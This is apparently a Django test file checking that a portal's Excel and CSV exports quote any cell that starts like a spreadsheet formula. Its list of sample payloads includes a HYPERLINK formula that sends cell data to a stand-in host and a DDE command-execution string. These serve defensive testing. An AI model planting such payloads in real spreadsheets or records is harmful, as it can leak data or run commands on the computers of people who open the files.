"""Exports: no cell of any file the portal hands out can run as a formula.

Every export the portal has, found from its URL configuration (each ``excel_export`` resource
of the agreements, delegations and targets registers) plus the change history in an
agreement's dossier (lich-su.csv). Every free-text field of every record they write, and the
names of the agencies and users they show, start with one of the characters a spreadsheet
takes as the start of a formula (= + - @, tab, CR, and their full-width forms). Each file is
read back: no formula cell, and every such text carries the leading quote that keeps it text
(import takes the quote off again).
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.db import models
from django.urls import reverse

from agreements import services as agreement_services
from agreements.dossier import history_csv
from agreements.excel import history_user
from agreements.excel_urls import EXCEL as AGREEMENTS_EXCEL
from agreements.resources import FORMULA_PREFIXES, cell_text
from delegations.excel_views import EXCEL as DELEGATIONS_EXCEL
from targets.excel_views import EXCEL as TARGETS_EXCEL
from targets.resources import EXPORTS as TARGET_EXPORTS
from tests.delegations.factories import (
    ConferenceFactory,
    DelegationFactory,
    MemberFactory,
    PlanFactory,
    PlanItemFactory,
)
from tests.factories import AgreementFactory, OutputFactory, PartnerFactory
from tests.targets.factories import (
    MeasurementFactory,
    TargetFactory,
    TaskFactory,
    TaskPlanFactory,
    TaskProgressFactory,
)

pytestmark = pytest.mark.django_db

TODAY = date(2026, 7, 1)
# What a spreadsheet runs as a formula when it starts a cell (Excel, LibreOffice; the
# full-width forms when an Asian input method is on).
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",  # full-width plus sign
    "\uff0d1",  # full-width hyphen-minus
    "\uff201",  # full-width commercial at
]
STARTS = tuple({text[0] for text in DANGEROUS})
NOT_FREE_TEXT = {"username", "password", "email", "search_text", "content_type", "computed"}


def exports() -> list[tuple[str, str]]:
    """(URL namespace, resource) of every Excel export of the portal."""
    found = [(AGREEMENTS_EXCEL.namespace, name) for name in AGREEMENTS_EXCEL.resources]
    found += [(DELEGATIONS_EXCEL.namespace, name) for name in DELEGATIONS_EXCEL.resources]
    found += [(TARGETS_EXCEL.namespace, name) for name in ["targets", *TARGET_EXPORTS]]
    return found


EXPORTS = exports()
_payloads = itertools.cycle(DANGEROUS)


def arm(obj: models.Model, *, skip: tuple[str, ...] = ()) -> models.Model:
    """Every free-text field of ``obj`` starts like a formula (each value unique)."""
    for field in obj._meta.concrete_fields:
        if (
            not isinstance(field, models.CharField | models.TextField)
            or isinstance(field, models.EmailField | models.SlugField | models.URLField)
            or field.choices
            or field.name in NOT_FREE_TEXT
            or field.name in skip
        ):
            continue
        text = f"{next(_payloads)} {field.name[:3]}{obj.pk or ''}"
        setattr(obj, field.name, text[: field.max_length] if field.max_length else text)
    obj.save()
    return obj


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(TODAY, tick=False):
        yield


@pytest.fixture
def world(owner_agency, agency, official, reporter):
    arm(agency, skip=("short_name",))
    # Short names are codes the imports look up; they too may start like a formula.
    agency.short_name = "=SVH"
    agency.save()
    arm(official)
    arm(reporter)
    parent = arm(PartnerFactory(country="CN"))
    partner = arm(PartnerFactory(country="LA", parent=parent, abbreviation="x"))
    agreement = AgreementFactory(lead_agency=agency, partners=[partner])
    agreement.coordinating_agencies.set([owner_agency])
    arm(agreement)
    arm(OutputFactory(agreement=agreement, responsible_agency=agency))
    plan = arm(PlanFactory(year=2026))
    item = arm(PlanItemFactory(plan=plan, lead_agency=agency))
    item.partners.set([partner])
    delegation = arm(DelegationFactory(host_agency=agency, planned_start=date(2026, 6, 10)))
    delegation.partners.set([partner])
    arm(MemberFactory(delegation=delegation))
    arm(MemberFactory(delegation=delegation))
    conference = arm(ConferenceFactory(organiser=agency))
    conference.partners.set([partner])
    target = arm(TargetFactory(code="4.1", owner_agency=agency), skip=("code",))
    target.contributing_agencies.set([owner_agency])
    arm(MeasurementFactory(target=target, period_year=2026, value=Decimal(3)))
    task = arm(TaskFactory(plan=arm(TaskPlanFactory()), lead_agency=agency))
    task.coordinating_agencies.set([owner_agency])
    arm(TaskProgressFactory(task=task))
    return {"agreement": agreement, "official": official, "reporter": reporter}


def check_workbook(content: bytes, where: str) -> int:
    """No formula anywhere; every text that starts like one carries the quote. Returns how
    many such texts the file holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{where}: a formula in {name}"
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    quoted = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula in {cell.coordinate}"
                value = cell.value
                if isinstance(value, str) and value:
                    # (A stored CR comes back from the XML as LF.)
                    assert not value.startswith(STARTS), f"{where} {cell.coordinate}: {value!r}"
                    if value[0] == "'" and value[1:2] in {*STARTS, "\n"}:
                        quoted += 1
    return quoted


@pytest.mark.parametrize(("namespace", "resource"), EXPORTS)
@pytest.mark.parametrize("who", ["official", "reporter"])
def test_no_exported_cell_runs_as_a_formula(client, world, namespace, resource, who):
    client.force_login(world[who])
    response = client.get(reverse(f"{namespace}:excel_export", args=[resource]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    quoted = check_workbook(response.content, f"{namespace}:{resource}")
    assert quoted >= 2, f"{namespace}:{resource}: the armed texts did not reach the file"


@pytest.mark.parametrize(("namespace", "resource"), EXPORTS)
def test_the_import_templates_hold_no_formula(client, world, namespace, resource):
    client.force_login(world["official"])
    response = client.get(reverse(f"{namespace}:excel_template", args=[resource]))
    if response.status_code == 404:  # an export without an import (targets, tasks)
        return
    check_workbook(response.content, f"{namespace}:{resource} template")


def test_every_export_is_covered():
    """A new export (a resource added to a register) shows up here and is tested above."""
    assert set(EXPORTS) == {
        ("agreements", "partners"),
        ("agreements", "agreements"),
        ("agreements", "outputs"),
        ("delegations", "plans"),
        ("delegations", "delegations"),
        ("delegations", "conferences"),
        ("targets", "targets"),
        ("targets", "measurements"),
        ("targets", "tasks"),
    }


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_quoted_text_comes_back_as_typed(text):
    """The quote is only a shield: the import takes it off, so an export imported back
    stores what was typed."""
    from agreements.excel import neutralise

    shielded = neutralise(text)
    assert shielded == "'" + text
    assert cell_text(shielded) == text


def test_dossier_history_csv_cells_never_start_a_formula(world, official):
    """lich-su.csv of an agreement's dossier names who changed what: a user's name may
    start like a formula too."""
    agreement = world["agreement"]
    with history_user(official):
        agreement_services.agreement_update(
            agreement=agreement, user=official, data={"title_vi": "=1+1 sửa tên"}
        )
    content = history_csv(agreement).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) >= 2
    names = {row[1] for row in rows[1:]}
    assert any(name.startswith("'") for name in names), names  # the armed full name
    for row in rows:
        for cell in row:
            assert not cell.startswith(STARTS), f"lich-su.csv: {cell!r}"


def test_formula_prefixes_of_the_import_match_the_export():
    assert set(STARTS) <= set(FORMULA_PREFIXES)


@pytest.mark.parametrize(("namespace", "resource"), EXPORTS)
def test_export_filters_take_any_value(client, world, namespace, resource):
    client.force_login(world["official"])
    url = reverse(f"{namespace}:excel_export", args=[resource])
    for query in (
        "q=%00",
        "q=" + "x" * 5000,
        "year=abc",
        "year=99999999999999999999",
        "state=zz",
        "direction=x",
        "mine=1&overdue=1",
        "lead_agency=-1",
    ):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 200, (url, query[:40])
        check_workbook(response.content, f"{namespace}:{resource}?{query[:20]}")
